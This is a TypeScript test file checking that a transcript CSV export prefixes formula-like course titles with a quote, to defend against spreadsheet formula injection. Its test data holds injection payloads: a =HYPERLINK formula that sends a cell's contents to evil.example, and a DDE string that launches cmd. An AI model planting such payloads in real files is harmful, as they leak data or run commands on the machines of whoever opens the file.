/**
 * Issue 10, item 6: a transcript downloaded as CSV never carries a live formula. Text cells that a
 * spreadsheet would evaluate (leading `=`, `+`, `-`, `@`, tab or CR) are prefixed with a single
 * quote; the rest of the value is kept, and numbers stay numbers.
 */
import { describe, expect, it } from 'vitest'
import { newTenant, userBody, type TestTenant } from '../helpers/tenants.ts'

/** RFC 4180 as the export writes it: CRLF rows, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += c
  }
  return rows
}

async function publishedCourse(t: TestTenant, title: string): Promise<string> {
  const created = await t.api.post('/api/v1/courses', { title })
  expect(created.status).toBe(201)
  const id = created.body.data.id as string
  expect((await t.api.patch(`/api/v1/courses/${id}`, { status: 'published' })).status).toBe(200)
  return id
}

describe('Attack: transcript CSV carries live formulas', () => {
  it('Attack: course titles =HYPERLINK, +SUM, -cmd, @SUM and a tab- or CR-led =1+1 come back as text in the transcript CSV', async () => {
    // Prepare
    const t = await newTenant()
    const user = (await t.api.post('/api/v1/users', userBody())).body.data as { id: string }
    const titles = [
      { sent: '=HYPERLINK("http://evil.example/?"&A1)', cell: `'=HYPERLINK("http://evil.example/?"&A1)` },
      { sent: '+SUM(1+1)', cell: `'+SUM(1+1)` },
      { sent: `-2+3+cmd|' /C calc'!A0`, cell: `'-2+3+cmd|' /C calc'!A0` },
      { sent: '@SUM(1)', cell: `'@SUM(1)` },
      // The title is trimmed on input: what remains starts with `=` and is neutralised too.
      { sent: '\t=1+1', cell: `'=1+1` },
      { sent: '\r=1+1', cell: `'=1+1` },
      { sent: 'Safety 101 = compliance', cell: 'Safety 101 = compliance' },
    ]
    const byCourse = new Map<string, string>()
    for (const title of titles) {
      const courseId = await publishedCourse(t, title.sent)
      byCourse.set(courseId, title.cell)
      const enrolled = await t.api.post('/api/v1/enrollments', { user_id: user.id, course_id: courseId })
      expect(enrolled.status).toBe(201)
    }

    // Act
    const reply = await t.api.get(`/api/v1/users/${user.id}/transcript?format=csv`)

    // Assess
    expect(reply.status).toBe(200)
    expect(reply.headers['content-type']).toBe('text/csv; charset=utf-8')
    const [header, ...rows] = parseCsv(reply.text.replace(/^\uFEFF/, ''))
    const column = (name: string) => header?.indexOf(name) ?? -1
    expect(rows).toHaveLength(titles.length)
    for (const row of rows) {
      const courseId = row[column('item_id')] ?? ''
      expect(row[column('title')]).toBe(byCourse.get(courseId))
      // Numbers stay numbers: never prefixed.
      expect(row[column('progress_percent')]).toBe('0')
      expect(row[column('time_spent_seconds')]).toBe('0')
      expect(row[column('ceu_value')]).toBe('0')
    }
    // No cell of the document starts a formula.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })
})
